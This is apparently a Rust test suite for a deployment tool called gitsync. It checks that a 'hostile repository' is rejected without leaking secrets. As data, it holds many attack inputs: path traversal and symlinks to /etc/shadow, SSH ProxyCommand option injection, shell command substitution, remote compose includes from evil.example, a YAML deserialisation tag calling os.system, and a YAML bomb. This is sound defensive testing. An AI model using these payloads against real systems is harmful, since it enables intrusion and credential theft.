//! A hostile repository: every trick is refused in review, at once, and without a word of what it reached for.

use std::time::{Duration, Instant};

use gitsync::check::check;
use gitsync::model::{Entry, Snapshot};
use gitsync::render::render;
use gitsync::report::diagnostics::text;

use super::support::{told, with};

/// What a repository is told: the check's problems, or the rendering's.
fn refused(snapshot: &Snapshot) -> Vec<String> {
    let begin = Instant::now();
    let checked = check(snapshot);
    let mut told: Vec<String> =
        told(&checked).into_iter().filter(|line| !line.starts_with("GS09")).collect();
    if let Some(fleet) = &checked.fleet
        && let Err(problems) = render(fleet)
    {
        told.extend(
            problems.iter().map(|problem| format!("{} {}", problem.code.0, problem.message)),
        );
    }
    assert!(begin.elapsed() < Duration::from_secs(5), "it took {:?}", begin.elapsed());
    told
}

/// One trick: its files, beside the base.
fn trick(files: &[(&str, &str)], code: &str) {
    let told = refused(&with(files));
    assert!(!told.is_empty(), "taken: {files:?}");
    assert!(told.iter().any(|line| line.starts_with(code)), "{files:?}\nwanted {code}: {told:#?}");
}

fn linked(path: &str, entry: Entry, more: &[(&str, &str)], code: &str) {
    let mut snapshot = with(more);
    snapshot.entries.insert(path.to_owned(), entry);
    let told = refused(&snapshot);
    assert!(told.iter().any(|line| line.starts_with(code)), "{path}: wanted {code}: {told:#?}");
}

const BUNDLE: &str = "files: files/b\nto: { on: [vps1], path: /etc/b }\n";
const SERVICE: &str = "image: acme/x:1\nplacement: { on: [vps1] }\n";

fn service(lines: &str, code: &str) {
    trick(&[("services/x.yaml", &format!("{SERVICE}{lines}\n"))], code);
}

#[test]
fn links_and_submodules_lead_nowhere() {
    let link = |target: &str| Entry::Link(target.to_owned());
    for target in
        ["/etc/shadow", "../../../etc/shadow", "..", "/", "a/../../../x", "/proc/self/environ"]
    {
        linked("files/b/f", link(target), &[("bundles/b.yaml", BUNDLE)], "GS0003");
        linked("services/x.yaml", link(target), &[], "GS0003");
        linked("files/b", link(target), &[("bundles/b.yaml", BUNDLE)], "GS0003");
    }
    linked("files/b/sub", Entry::Submodule, &[("bundles/b.yaml", BUNDLE)], "GS0004");
    linked("services/x.yaml", Entry::TooLarge(1 << 40), &[], "GS0002");
    // A circle of links has no end.
    let mut circle = with(&[("bundles/b.yaml", BUNDLE)]);
    circle.entries.insert("files/b/one".to_owned(), link("two"));
    circle.entries.insert("files/b/two".to_owned(), link("one"));
    assert!(!refused(&circle).is_empty());
}

#[test]
fn paths_stay_in_the_repository_and_below_their_directories() {
    for path in ["../outside", "/etc", "files/../../etc", "files//b", "./files/b", "files/b/.."] {
        let text = BUNDLE.replace("files/b", path);
        trick(&[("bundles/b.yaml", &text), ("files/b/f", "x")], "GS0111");
    }
    for path in [
        "etc/b",
        "/etc/../root/.ssh",
        "/etc//b",
        "/etc/b/",
        "/etc/./b",
        "/etc/b\\0",
        "\"/etc/\\u0000b\"",
        "\"/etc/\\nb\"",
    ] {
        let text = BUNDLE.replace("/etc/b", path);
        let told = refused(&with(&[("bundles/b.yaml", &text), ("files/b/f", "x")]));
        let plain = path.ends_with("\\0") && !path.starts_with('"');
        assert_eq!(told.is_empty(), plain, "{path}: {told:?}");
    }
    for path in [
        "/proc/sys/kernel",
        "/sys/power",
        "/dev/shm",
        "/run/x",
        "/var/lib/gitsync",
        "/var/lib/gitsync/bin",
    ] {
        let text = BUNDLE.replace("/etc/b", path);
        trick(&[("bundles/b.yaml", &text), ("files/b/f", "x")], "GS0309");
    }
    service("directory: ../x", "GS0111");
    service("directory: /proc/1", "GS0309");
    service("volumes: [ ./../../etc:/etc ]", "GS0111");
    service("volumes: [ ../x:/etc ]", "GS0112");
}

#[test]
fn nodes_are_addresses_and_names_and_no_options() {
    for host in [
        "-oProxyCommand=reboot",
        "\"a b\"",
        "a;b",
        "\"$(x)\"",
        "\"`x`\"",
        "\"a\\nb\"",
        "\"{a,b}\"",
        "a/b",
        "\"%h\"",
        "\"\"",
    ] {
        let text = |key: &str| format!("address: 1.2.3.4\nssh: {{ {key}: {host} }}\n");
        for key in ["host", "user", "jump"] {
            let told = refused(&with(&[("nodes/vps1.yaml", &text(key))]));
            assert!(!told.is_empty(), "{key}: {host} is taken");
        }
    }
    for text in [
        "address: -oProxyCommand=x",
        "address: 0.0.0.0",
        "address: 224.0.0.1",
        "address: \"::1%$(x)\"",
        "address: 1.2.3.4\nssh: { identity: relative }",
        "address: 1.2.3.4\nssh: { identity: \"/a\\nProxyCommand x\" }",
        "address: 1.2.3.4\nssh: { host_key: \"ssh-ed25519 AAAA\\n* ssh-ed25519 BBBB\" }",
        "address: 1.2.3.4\nssh: { host_key: \"@cert-authority * ssh-ed25519 AAAA\" }",
        "address: 1.2.3.4\nssh: { port: 22; }",
        "address: 1.2.3.4\nssh: { options: [ProxyCommand=x] }",
        "address: 1.2.3.4\nboot: \"file:/etc/../etc/rc.local\"",
        "address: 1.2.3.4\nboot: $(x)",
        "address: 1.2.3.4\nroot: /",
        "address: 1.2.3.4\nroot: /proc/x",
        "address: 1.2.3.4\nroot: /etc",
        "address: 1.2.3.4\nroot: /run/gitsync",
        "address: 1.2.3.4\narch: \"$(x)\"",
    ] {
        let told = refused(&with(&[("nodes/vps1.yaml", text)]));
        assert!(!told.is_empty(), "taken: {text}");
    }
}

#[test]
fn names_are_labels_whatever_an_alphabet_has() {
    let long = "a".repeat(64);
    for name in [
        "A",
        "a_b",
        "-a",
        "a.b",
        "\u{202e}a",
        "a\u{0}",
        "a\n",
        "a b",
        "ａ",
        "é",
        &long,
        "..",
        "~root",
        "$(x)",
    ] {
        let snapshot = with(&[(&format!("services/{name}.yaml"), SERVICE)]);
        let told = refused(&snapshot);
        assert!(!told.is_empty(), "{name:?} is taken");
        // Nothing of it may act on a terminal that shows what is wrong.
        let shown = text(&check(&snapshot).diagnostics, &|_| None, false);
        let acts = |c: char| (c.is_control() && c != '\n') || "\u{202e}\u{2066}".contains(c);
        assert!(!shown.contains(acts), "{shown:?}");
    }
    // Two names that one file system takes for the same.
    trick(&[("services/a.yaml", SERVICE), ("services/A.yaml", SERVICE)], "GS0106");
    trick(&[("services/x.yaml", SERVICE), ("services/x/service.yaml", SERVICE)], "GS0011");
}

#[test]
fn hosts_headers_and_paths_of_routes_say_what_they_mean() {
    let gateway = ("gateways/edge.yaml", "proxy: caddy\non: [vps1]\n");
    for expose in [
        "{ host: \"{env.SECRET}\", port: web }",
        "{ host: \"a\\nb\", port: web }",
        "{ host: \"a { respond x }\", port: web }",
        "{ host: \"*\", port: web }",
        "{ host: \"a.example.net:22\", port: web }",
        "{ host: \"{$HOME}.example.net\", port: web }",
        "{ host: a, port: web, path: \"/x { }\" }",
        "{ host: a, port: web, path: \"/x\\n}\" }",
        "{ host: a, port: web, headers: { \"X\\nY\": z } }",
    ] {
        let text = format!("{SERVICE}ports: {{ web: \"80:80\" }}\nexpose: [ {expose} ]\n");
        let told = refused(&with(&[gateway, ("services/x.yaml", &text)]));
        assert!(!told.is_empty(), "taken: {expose}");
    }
}

#[test]
fn names_of_variables_labels_and_volumes_are_plain() {
    service("env: { \"A=B\": x }", "GS0112");
    service("env: { \"A\\nB\": x }", "GS0112");
    service("env: { \"$(x)\": x }", "GS0112");
    service("labels: { \"a b\": x }", "GS0112");
    service("labels: { \"a=b\": x }", "GS0112");
    service("volumes: [ \"$(x):/x\" ]", "GS0112");
    service("volumes: [ \"${X}:/x\" ]", "GS0112");
    service("volumes: [ \"/a:/b:rw,exec:z\" ]", "GS0112");
    service("devices: [ \"../dev/sda\" ]", "GS0112");
    service("cap_add: [ \"ALL --privileged\" ]", "GS0112");
    service("image: \"-v /:/x\"", "GS");
    service("project: \"--help\"", "GS0112");
    service("env: { A: \"node:/etc/../etc/shadow\" }", "GS");
}

#[test]
fn brought_compose_files_read_nothing_outside_their_folder() {
    let service = ("services/m/service.yaml", "compose: compose.yaml\nplacement: { on: [vps1] }\n");
    for text in [
        "services: { a: { image: a:1, env_file: /etc/shadow } }",
        "services: { a: { image: a:1, env_file: ../../secret.env } }",
        "services: { a: { image: a:1, env_file: [ { path: ~/.ssh/id_ed25519 } ] } }",
        "services: { a: { image: a:1, label_file: /etc/passwd } }",
        "include: [ /etc/compose.yaml ]\nservices: { a: { image: a:1 } }",
        "include: [ { path: x.yaml, env_file: /etc/shadow } ]\nservices: { a: { image: a:1 } }",
        "include: [ oci://evil.example/x ]\nservices: { a: { image: a:1 } }",
        "include: [ \"https://evil.example/x.git\" ]\nservices: { a: { image: a:1 } }",
        "services: { a: { extends: { file: ../../other/compose.yaml, service: a } } }",
        "services: { a: { build: / } }",
        "services: { a: { build: { context: ., dockerfile: ../../../etc/shadow } } }",
        "services: { a: { build: { context: https://evil.example/x.git } } }",
        "services: { a: { image: a:1 } }\nconfigs: { c: { file: /etc/shadow } }",
        "services: { a: { image: a:1 } }\nsecrets: { s: { file: ../../../etc/shadow } }",
        "services: { a: { image: a:1, security_opt: [ \"seccomp:/etc/shadow\" ] } }",
    ] {
        trick(
            &[service, ("services/m/compose.yaml", text), ("services/m/x.yaml", "services: {}")],
            "GS0402",
        );
    }
    for text in [
        "services: { a: { image: \"a:${SSH_AUTH_SOCK}\" } }",
        "services: { a: { image: a:1 } }\nsecrets: { s: { environment: TOKEN } }",
    ] {
        trick(&[service, ("services/m/compose.yaml", text)], "GS0403");
    }
}

#[test]
fn documents_that_mean_more_than_they_say_are_refused_at_once() {
    let mut bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for (letter, before) in ('b'..='k').zip('a'..) {
        bomb.push_str(&format!("{letter}: &{letter} [*{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}]\n"));
    }
    let deep = format!("env: {}{}", "[".repeat(20_000), "]".repeat(20_000));
    let huge = format!("{SERVICE}command: \"{}\"\n", "x".repeat(3 << 20));
    let keys = format!("{SERVICE}env: {{ {} }}\n", "A: x, ".repeat(50_000));
    for (text, code) in [
        (bomb.as_str(), "GS0006"),
        (&deep, "GS0006"),
        (&huge, "GS0"),
        (&keys, "GS0007"),
        ("image: a:1\nimage: b:1\nplacement: { on: all }\n", "GS0007"),
        ("image: a:1\n---\nimage: b:1\n", "GS0008"),
        ("image: !!python/object/apply:os.system [reboot]\nplacement: { on: all }\n", "GS"),
        ("<<: *x\nimage: a:1\n", "GS0"),
        ("image: \"a:1\u{0}\"\nplacement: { on: all }\n", "GS0"),
    ] {
        trick(&[("services/x.yaml", text)], code);
    }
    linked(
        "services/x.yaml",
        Entry::File { content: vec![0xff, 0xfe, 0, 0], executable: false },
        &[],
        "GS0001",
    );
}

#[test]
fn templates_neither_read_nor_go_on_for_ever() {
    let gateway = ("gateways/edge.yaml", "proxy: caddy\non: [vps1]\n");
    for text in [
        "{% for a in range(end=10000) %}{% for b in range(end=10000) %}{% endfor %}{% endfor %}",
        "{% for a in range(end=100000000000) %}{% endfor %}",
        "{% for a in range(end=9000) %}{% for b in range(end=9000) %}xxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
        "{{ get_env(name=\"HOME\") }}",
        "{{ now() }}",
        "{{ throw(message=\"x\") }}",
        "{{ load_data(path=\"/etc/shadow\") }}",
        "{% include \"/etc/shadow\" %}",
        "{% include \"../../../../etc/shadow\" %}",
        "{% import \"/etc/shadow\" as x %}",
        "{% extends \"/etc/shadow\" %}",
        "{{ __tera_context.secret.x }}",
        "{{ undefined.value }}",
        "{% include \"Caddyfile.tera\" %}",
        "{% set s = \"xxxxxxxxxxxxxxxx\" %}{% for a in range(end=60) %}{% set_global s = s ~ s %}{% endfor %}{{ s }}",
        "{{ \"x\" | repeat(count=9999999999) }}",
        "{% set s = \"xxxxxxxxxxxxxxxx\" %}{% for a in range(end=60) %}{% set_global s = s | replace(from=\"x\", to=\"xx\") %}{% endfor %}",
        "{% for a in range(end=9999) %}",
    ] {
        trick(&[gateway, ("templates/Caddyfile.tera", text)], "GS0601");
        let bundle = "files: files/b\nto: { on: [vps1], path: /etc/b }\ntemplate: true\n";
        let told = refused(&with(&[("bundles/b.yaml", bundle), ("files/b/f", text)]));
        let names_itself = text.contains("Caddyfile.tera");
        assert!(!told.is_empty() || names_itself, "taken: {text}");
    }
    // Two that go in a circle.
    trick(
        &[
            gateway,
            ("templates/Caddyfile.tera", "{% include \"a\" %}"),
            ("templates/a", "{% include \"b\" %}"),
            ("templates/b", "{% include \"a\" %}"),
        ],
        "GS0601",
    );
}

#[test]
fn nothing_that_was_reached_for_is_told() {
    let secret = "s3cret-of-the-controller";
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), secret).unwrap();
    let path = file.path().display().to_string();
    let gateway = ("gateways/edge.yaml", "proxy: caddy\non: [vps1]\n");
    let template = format!("{{% include \"{path}\" %}}");
    let mut linked = with(&[gateway, ("templates/Caddyfile.tera", &template)]);
    linked.entries.insert("files/b/f".to_owned(), Entry::Link(path.clone()));
    linked.entries.insert("services/x.yaml".to_owned(), Entry::Link(path.clone()));
    let identity = format!("address: 1.2.3.4\nssh: {{ identity: {path} }}\n");
    let compose = format!("services: {{ a: {{ image: a:1, env_file: {path} }} }}");
    let more = with(&[
        ("nodes/vps1.yaml", &identity),
        ("services/m/service.yaml", "compose: compose.yaml\nplacement: { on: [vps1] }\n"),
        ("services/m/compose.yaml", &compose),
    ]);
    linked.entries.extend(more.entries);
    let told = refused(&linked);
    assert!(told.len() > 2, "{told:#?}");
    assert!(!told.iter().any(|line| line.contains(secret)), "{told:#?}");
}
